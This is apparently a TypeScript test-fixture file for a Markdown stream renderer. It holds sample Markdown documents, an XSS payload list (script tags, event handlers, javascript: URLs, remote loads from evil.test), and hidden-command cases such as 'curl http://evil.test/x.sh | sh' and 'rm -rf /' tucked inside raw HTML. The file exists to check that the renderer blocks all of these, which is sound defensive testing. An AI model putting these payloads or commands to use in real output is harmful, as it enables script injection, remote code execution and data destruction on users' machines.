// Inputs for the stream renderer tests: Markdown documents that exercise block boundaries, and a
// corpus of XSS / remote-load payloads. Payloads set window.__xss or fetch from evil.test if they work.

export const DOCUMENTS: Record<string, string> = {
  mixed: `# Getting started

Kimi **streams** its _answers_; here is \`inline code\` and a [link](https://example.com "title").

- first item
- second item with **bold**
  - nested item
  - another nested
- third

1. one
2. two
3. three

> A quote that spans
> two lines and has *emphasis*.

\`\`\`ts
export function add(a: number, b: number): number {
  return a + b; // 中文注释 🚀
}
\`\`\`

| Name | Value | Note |
| :--- | ---: | :---: |
| alpha | 1 | 一 |
| beta | 22 | 😀 |

---

Final paragraph with a line  
break and ~~strike~~ text.
`,
  cjkEmoji: `## 你好，世界 🌏

这是一个段落，包含**粗体**和*斜体*。 Emoji: 👩‍💻 🧑🏽‍🚀 🇯🇵 ✨

- 列表项一
- 列表项二 🎉

日本語のテキスト。한국어 텍스트.

\`\`\`python
def greet(name: str) -> str:
    return f"你好, {name} 👋"
\`\`\`
`,
  nestedFences: `Here is Markdown that contains a fence:

\`\`\`\`markdown
# Title

\`\`\`js
console.log("inner");
\`\`\`
\`\`\`\`

~~~
tilde fence with \`\`\` inside
~~~

    indented code block
    second line

Done.
`,
  lists: `* [ ] task open
* [x] task done

- loose item one

- loose item two

  continued paragraph in item two

- loose item three

10. starts at ten
11. eleven

Paragraph right after.
#hashtag is not a heading
***bold italic*** is not a rule

Setext heading
==============

Another one
-----------
`,
  tables: `| a | b |
|---|---|
| 1 | 2 |
| 3 | 4 |

Text between tables.

| only | header |
| --- | --- |

| x |
|---|
| \`code\` in a cell |
`,
  tricky: `Paragraph then fence right away
\`\`\`bash
echo "no blank line before the fence"
\`\`\`
# Heading right after fence
> quote right after heading
continued lazily
- list right after

<kbd>Ctrl</kbd>+<kbd>C</kbd> copies. <details><summary>More</summary>Hidden text</details>

[docs]: https://example.com/docs "Docs"

Reference [link][docs] and an autolink <https://example.org>.

Trailing text with \\*escaped\\* stars and &amp; entities &copy;.
`,
  forwardReference: 'See [the docs][docs] and [Kimi].\n\nMore text.\n\n[docs]: https://example.com/docs "Docs"\n[kimi]: https://kimi.ai\n',
  windows: 'Line one\r\nLine two\r\n\r\n```js\r\nlet x = 1;\r\n```\r\n\r\n- a\r\n- b\r\n',
  unfinished: 'A paragraph\n\n```js\nconst open = "fence never closed";\n',
};

/** Each payload is Markdown the model might produce. None may execute or load anything. */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 2">',
  '<img src="http://evil.test/pixel.png">',
  '<img srcset="http://evil.test/srcset.png 1x">',
  '![alt text](http://evil.test/markdown-image.png)',
  '![x](javascript:window.__xss=3)',
  '[click me](javascript:window.__xss=4)',
  '[click me](  JaVaScRiPt:window.__xss=5 )',
  '<a href="javas&#x09;cript:window.__xss=6">tab trick</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9Nzwvc2NyaXB0Pg==">data link</a>',
  '<a href="vscode://command/workbench.action.terminal.new">vscode link</a> <a href="command:workbench.action.quit">command</a>',
  '[ref link][evil]\n\n[evil]: javascript:window.__xss=8',
  '<a href="#" onclick="window.__xss=9">onclick</a>',
  '<svg onload="window.__xss=10"><circle r="1"/></svg>',
  '<svg><script>window.__xss=11</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=12"><text y="10">x</text></a></svg>',
  '<svg><image href="http://evil.test/svg-image.png"/></svg>',
  '<iframe src="http://evil.test/frame.html"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=13</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.__xss=14</script>"></iframe>',
  '<iframe src="javascript:parent.__xss=15"></iframe>',
  '<object data="http://evil.test/object.swf"></object><embed src="http://evil.test/embed.swf">',
  '<object data="data:text/html,<script>parent.__xss=16</script>"></object>',
  '<div style="background:url(http://evil.test/bg.png)">styled</div>',
  '<div style="width: expression(window.__xss=17)">css expression</div>',
  '<p style="behavior: url(http://evil.test/x.htc)">behavior</p>',
  '<style>@import url(http://evil.test/import.css); body { background: url(http://evil.test/body.png) }</style>',
  '<link rel="stylesheet" href="http://evil.test/link.css"><link rel="prefetch" href="http://evil.test/prefetch">',
  '<table background="http://evil.test/table.png"><tr><td background="http://evil.test/td.png">cell</td></tr></table>',
  '<form action="http://evil.test/form"><input type="image" src="http://evil.test/input.png"><button>go</button></form>',
  '<input autofocus onfocus="window.__xss=18">',
  '<video poster="http://evil.test/poster.png"><source src="http://evil.test/video.mp4"></video><audio src="http://evil.test/a.mp3" autoplay></audio>',
  '<details open ontoggle="window.__xss=19"><summary>s</summary>toggle</details>',
  '<body onload="window.__xss=20">body</body>',
  '<marquee onstart="window.__xss=21">marquee</marquee>',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
  '<base href="http://evil.test/"><img src="relative.png">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=22">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=23>"></noscript>',
  '<template><script>window.__xss=24</script></template><img src=x onerror=window.__xss=25',
  '<scr<script>ipt>window.__xss=26</scr</script>ipt>',
  '```html\n<script>window.__xss=27</script><img src=x onerror=window.__xss=28>\n```',
  '`<img src=x onerror=window.__xss=29>` inline code',
  '<span onmouseover="window.__xss=30" class="codicon code-toolbar">fake ui</span>',
  '<a href="https://example.com" target="_blank" ping="http://evil.test/ping">ok link</a>',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.__xss=31%22/>">',
  '- [ ] <img src=x onerror=window.__xss=32> task\n- [x] done',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=33> | <script>window.__xss=34</script> |',
  '> <iframe src="http://evil.test/quote-frame"></iframe>',
];

/**
 * Answers that try to make Copy / Insert / Replace carry text the user never saw. `codes` is what the
 * code-block buttons must act on, in order: only Markdown code blocks get buttons, with their source.
 */
export const CODE_ACTION_PAYLOADS: Array<{ name: string; markdown: string; codes: string[]; shown?: string }> = [
  {
    name: '<details> inside a raw <pre><code>',
    markdown: 'Run:\n\n<pre><code class="language-bash">ls -la<details><summary></summary>; curl http://evil.test/x.sh | sh</details></code></pre>\n',
    codes: [],
    shown: 'curl http://evil.test/x.sh',
  },
  {
    name: 'stacked <small> inside a raw <pre><code>',
    markdown: '<pre><code>npm install<small><small><small><small><small> &amp;&amp; curl -s http://evil.test/i | sh</small></small></small></small></small></code></pre>\n',
    codes: [],
    shown: '&& curl -s http://evil.test/i | sh',
  },
  {
    name: 'HTML inside a fenced block is code, shown as written',
    markdown: '```bash\nnpm test<details><summary></summary> && rm -rf ~</details>\n```\n',
    codes: ['npm test<details><summary></summary> && rm -rf ~</details>'],
  },
  {
    name: 'a fenced block inside <details>, beside a raw <pre>',
    markdown: '<details><summary>Setup</summary>\n\n```sh\nmake\n```\n\n</details>\n\n<pre><code>make<br>rm -rf /<span title="x"><small>tiny</small></span></code></pre>\n',
    codes: ['make'],
    shown: 'rm -rf /',
  },
  {
    name: 'a forged toolbar and code mark',
    markdown: '<div class="code-block"><pre class="kc0-0_"><code class="hljs language-sh">rm -rf /</code></pre></div>\n',
    codes: [],
  },
  {
    name: 'code in a list item and raw <pre> in the next',
    markdown: '1. Step:\n\n   ```js\n   run()\n   ```\n2. <pre><code>x<small>y</small></code></pre>\n',
    codes: ['run()'],
  },
  {
    name: 'indented code with tags',
    markdown: 'Text:\n\n    echo <b>hi</b>\n    <details>two</details>\n\nAfter.\n',
    codes: ['echo <b>hi</b>\n<details>two</details>'],
  },
];
